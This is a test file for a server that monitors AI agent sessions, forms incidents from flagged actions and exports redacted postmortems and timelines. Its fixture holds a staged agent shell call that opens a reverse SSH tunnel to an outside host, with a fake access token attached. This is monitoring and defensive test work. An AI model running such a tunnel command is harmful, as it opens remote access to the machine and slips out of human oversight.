// An episode comes in over HTTP, and an incident forms by itself: what people do with it, and what can be taken along.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { IncidentDetail, IncidentList } from './protocol/incident.ts'
import { IncidentTimeline } from './protocol/incident-timeline.ts'
import { Postmortem } from './protocol/postmortem.ts'
import { citationOf } from './protocol/postmortem-section.ts'
import { ResponderList } from './protocol/responder-list.ts'
import { startForTest, type TestServer } from './start-for-test.ts'

let server: TestServer
beforeAll(async () => {
  server = await startForTest()
})
afterAll(() => server.stop())

const session = 'ep-7f3a91'
const token = `ghp_${'a1B2'.repeat(9)}`
const list = async (query = '') => IncidentList.parse(await (await server.api(`/api/incidents${query}`)).json())
const change = async (id: string, wish: object) => {
  const answer = await server.api(`/api/incidents/${id}/changes`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(wish),
  })
  return { status: answer.status, body: (await answer.json()) as object }
}
const ingest = (events: object[]) =>
  server.api('/api/ingest/events', {
    method: 'POST',
    headers: { 'content-type': 'application/x-ndjson' },
    body: events.map((event) => JSON.stringify({ v: 1, atMs: Date.now(), session, ...event })).join('\n'),
  })

describe('an incident', () => {
  it('forms from what a session does, and is worked on until it is resolved', async () => {
    // given: an episode that opens a tunnel
    await ingest([
      { kind: 'session.started', data: { held: 'none', abilities: [], agent: 'rome-30b' } },
      { kind: 'action.started', data: { call: 'c1', tool: 'shell', input: 'pytest -q' } },
      {
        kind: 'action.started',
        data: { call: 'c2', tool: 'shell', input: `ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40 # ${token}` },
      },
    ])
    // and the end that only telemetry tells holds nothing
    await ingest([{ kind: 'session.ended', data: {} }])
    // then it is there, with the flag's reason
    await expect.poll(async () => (await list()).incidents.length, { timeout: 10_000 }).toBe(1)
    const [found] = (await list(`?session=${session}`)).incidents
    expect(found).toMatchObject({ incident: 'INC-1', status: 'open', sessions: [session], containedSessions: 0 })
    // acknowledged, noted, retitled
    expect(await change('INC-1', { type: 'acknowledge', forMinutes: 10 })).toMatchObject({
      status: 200,
      body: { status: 'acknowledged', owner: { name: 'VIGIL_KEY' } },
    })
    await change('INC-1', { type: 'note', text: 'The far end is a VPS, **not ours**.' })
    expect(await change('INC-1', { type: 'retitle', title: 'Tunnel to a VPS' })).toMatchObject({
      body: { title: 'Tunnel to a VPS' },
    })
    expect(await change('INC-1', { type: 'split', sessions: [session] })).toMatchObject({ status: 409 })
    expect(await change('INC-1', { type: 'merge', into: 'INC-99' })).toMatchObject({ status: 409 })
    // what can be taken along: no secret in it, though the log keeps it
    const timeline = IncidentTimeline.parse(await (await server.api('/api/incidents/INC-1/timeline')).json())
    // what happened is on one axis, the flag tied to the call that it names
    const action = timeline.items.find(({ lane, label }) => lane === 'agent' && label.includes('ssh -fN'))
    expect(timeline.items.find(({ lane }) => lane === 'flags')?.tie?.to).toBe(action?.id)
    const postmortem = await server.api('/api/incidents/INC-1/postmortem.md')
    expect(postmortem.headers.get('content-disposition')).toContain('INC-1-postmortem.md')
    const text = await postmortem.text()
    expect(text).toContain('# INC-1: Tunnel to a VPS')
    expect(text).toContain('**not ours**')
    // what people write stands beside the facts, whole and once: who comes too late is told what stands
    const write = (text: string, basedOn: number) =>
      change('INC-1', { type: 'write', section: 'causes', text, basedOn })
    const flag = timeline.items.find(({ lane }) => lane === 'flags')?.id ?? ''
    expect(await write(`Nobody gated **ssh**.\n${citationOf(flag)}\nIt had ${token}.`, 0)).toMatchObject({
      status: 200,
    })
    expect(await write('It was the probe.', 0)).toMatchObject({
      status: 409,
      body: { title: 'Written meanwhile', stands: { version: 1, by: { name: 'VIGIL_KEY' } } },
    })
    const readPostmortem = async () =>
      Postmortem.parse(await (await server.api('/api/incidents/INC-1/postmortem')).json())
    expect(await readPostmortem()).toMatchObject({
      written: [{ section: 'causes', text: expect.stringContaining('Nobody gated **ssh**.'), version: 1 }],
      cited: [{ id: flag, lane: 'flags' }],
      evidence: { flags: expect.arrayContaining([expect.objectContaining({ id: flag })]) },
    })
    const exported = await (await server.api('/api/incidents/INC-1/postmortem.md')).text()
    expect(exported).toMatch(/\*\*Written by VIGIL\\_KEY\*\*, .*, version 1:\n\n> Nobody gated \*\*ssh\*\*\./)
    expect(exported).toContain('> - Evidence, flags,')
    expect(JSON.stringify(await readPostmortem()) + exported).not.toContain(token)
    // it is given to who can work on it
    const { responders } = ResponderList.parse(await (await server.api('/api/responders')).json())
    const owner = responders[0]?.id
    expect(await change('INC-1', { type: 'assign', operator: owner })).toMatchObject({ body: { owner: { id: owner } } })
    expect(await change('INC-1', { type: 'assign', operator: 'nobody' })).toMatchObject({ status: 404 })
    const csv = await (await server.api('/api/incidents/INC-1/timeline.csv')).text()
    expect(csv.split('\r\n').length).toBeGreaterThan(3)
    for (const each of [JSON.stringify(timeline), text, csv]) expect(each).not.toContain(token)
    const bundle = await server.api('/api/incidents/INC-1/bundle')
    expect([bundle.status, bundle.headers.get('content-type')]).toEqual([200, 'application/x-tar'])
    await bundle.arrayBuffer()
    // resolved, and it stays so over a restart
    await change('INC-1', { type: 'resolve', verdict: 'true', reason: 'ended by hand' })
    await server.restart()
    expect(IncidentDetail.parse(await (await server.api('/api/incidents/INC-1')).json())).toMatchObject({
      status: 'resolved',
      verdict: 'true',
      log: [
        { change: { type: 'acknowledge' } },
        { change: { type: 'note' } },
        { change: { type: 'retitle' } },
        { change: { type: 'write', section: 'causes' } },
        { change: { type: 'assign' } },
        { change: { type: 'resolve' } },
      ],
    })
    expect((await readPostmortem()).written).toMatchObject([{ section: 'causes', version: 1 }])
    expect((await list('?state=unresolved')).incidents).toEqual([])
    expect(await change('INC-1', { type: 'acknowledge' })).toMatchObject({ status: 409 })
    expect((await server.api('/api/incidents/INC-404')).status).toBe(404)
  })
})
